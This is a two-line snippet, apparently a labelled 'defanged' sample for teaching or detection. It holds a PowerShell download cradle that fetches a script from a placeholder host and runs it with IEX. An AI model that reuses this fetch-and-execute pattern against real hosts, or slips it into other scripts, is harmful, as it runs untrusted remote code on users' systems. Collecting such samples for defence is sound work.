# Defanged sample: PowerShell download cradle.
IEX (New-Object Net.WebClient).DownloadString('https://example.invalid/a.ps1')
